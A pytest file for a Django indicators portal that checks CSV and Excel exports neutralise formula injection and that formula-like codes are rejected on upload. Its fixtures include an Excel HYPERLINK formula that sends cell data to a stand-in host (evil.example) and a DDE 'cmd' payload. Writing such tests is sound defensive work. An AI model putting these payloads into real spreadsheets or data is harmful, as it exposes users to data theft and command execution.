"""CSV and Excel exports never carry a live formula (issue 15, item 4).

A footnote, source, audit summary, report cell or programme text starting with = + - @ (or a
tab or carriage return) reaches every export with a single quote in front (OWASP); numbers,
including negative ones such as -3.5, stay numbers. Free-text codes (series, dimensions
without a code list) starting so are refused on upload.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from indicators import services
from indicators.models import Observation
from indicators.reports import exports as report_exports
from portal.models import AuditEvent
from portal.services import reference_data_load
from portal.spreadsheets import safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
UPLOAD = (
    "indicator,area,disaggregation,year,value,unit,nature,source,footnote\n"
    "3.2.1,,,2015,14.6,PER_1000_LIVE_BIRTHS,C,,\n"
    "3.2.1,,,2020,3.5,PER_1000_LIVE_BIRTHS,C,,\n"
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+1e3", "+1e3"),
        ("plain text", "plain text"),
        ("", ""),
        (-3.5, -3.5),
        (Decimal("-3.5"), Decimal("-3.5")),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture
def published(sheet_world, round_2026):
    reference_data_load()
    fp, coord = sheet_world.users["focal_point"], sheet_world.users["coordinator"]
    sheet = services.datasheet_create(country=sheet_world.country_a, round=round_2026, user=fp)
    token = services.upload_stage(sheet=sheet, user=fp, files=[("kaz.csv", UPLOAD.encode())])
    services.datasheet_import_apply(
        sheet=sheet, user=fp, token=token, expected_lock_version=sheet.lock_version
    )
    Observation.objects.filter(sheet=sheet).update(footnote=FORMULA, source=SOURCE)
    # A negative value (of another indicator, say) must reach the exports as a number.
    Observation.objects.filter(sheet=sheet, year=2020).update(value=Decimal("-3.5"))
    services.datasheet_submit(sheet=sheet, user=fp)
    services.datasheet_accept(sheet=sheet, user=coord)
    client = APIClient()
    client.force_authenticate(sheet_world.users["observer"])
    return client


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def _no_live_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert cell[0] not in "=+@\t\r" and not (cell[0] == "-" and "+" in cell), cell


def test_observations_csv_export_neutralises_text_and_keeps_numbers(published):
    rows = _rows(published.get("/api/v1/exports/observations.csv?country=KAZ"))
    assert {row["footnote"] for row in rows} == {"'" + FORMULA}
    assert {row["source"] for row in rows} == {"'" + SOURCE}
    assert sorted(row["value"] for row in rows) == ["-3.5", "14.6"]
    for row in rows:
        _no_live_formula(row.values())


def test_sdmx_csv_export_neutralises_text_and_keeps_numbers(published):
    rows = _rows(published.get("/api/v1/exports/observations.sdmx-csv?country=KAZ"))
    assert rows, "the observations are exported"
    assert {row["COMMENT_OBS"] for row in rows} == {"'" + FORMULA}
    assert sorted(row["OBS_VALUE"] for row in rows) == ["-3.5", "14.6"]
    for row in rows:
        _no_live_formula(row.values())


def test_report_exports_neutralise_text_cells():
    table = report_exports.Table(
        name="t",
        title="T",
        columns=["country", "note", "rate"],
        rows=[["KAZ", FORMULA, -0.25]],
        notes=[SOURCE],
    )
    body = report_exports.csv_response(table).content.decode()
    assert list(csv.reader(io.StringIO(body)))[1] == ["KAZ", "'" + FORMULA, "-0.25"]
    book = report_exports.workbook(table)
    assert list(book["data"].iter_rows(values_only=True))[1] == ("KAZ", "'" + FORMULA, -0.25)
    readme = [row[1] for row in book["README"].iter_rows(values_only=True)]
    assert "'" + SOURCE in readme
    for sheet in book.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_audit_trail_csv_neutralises_text(cast):
    AuditEvent.objects.create(action="sheet.accepted", object_type="sheet", summary=FORMULA)
    client = Client()
    client.force_login(cast.users["coordinator"])
    body = client.get("/audit/?format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["summary"] for row in rows] == ["'" + FORMULA]


def test_programme_report_xlsx_has_no_formula(cast):
    from tests.meetings.factories import ActivityFactory

    activity = ActivityFactory(title=FORMULA, progress_notes=SOURCE)
    client = Client()
    client.force_login(cast.users["coordinator"])
    response = client.get(f"/meetings/programme/{activity.biennium.pk}/report.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + SOURCE in values


@pytest.mark.parametrize(
    ("disaggregation", "column"),
    [("SEX==1+2", "SEX"), ("Территория=@SUM(A1)", "ТЕРРИТОРИЯ"), ("-1+1=F", "-1+1")],
)
def test_codes_that_start_like_a_formula_are_refused_on_upload(
    sheet_world, round_2026, disaggregation, column
):
    fp = sheet_world.users["focal_point"]
    sheet = services.datasheet_create(country=sheet_world.country_a, round=round_2026, user=fp)
    text = UPLOAD + f"3.2.1,,{disaggregation},2021,9.0,PER_1000_LIVE_BIRTHS,C,,\n"
    token = services.upload_stage(sheet=sheet, user=fp, files=[("kaz.csv", text.encode())])
    preview = services.datasheet_import_preview(sheet=sheet, user=fp, token=token)
    assert not preview.ok
    assert [(p.column, str(p.reason)) for p in preview.problems] == [
        (
            column,
            "a code may not start with =, +, -, @, a tab or a line break "
            "(spreadsheets would run it as a formula)",
        )
    ]
    assert Observation.objects.count() == 0
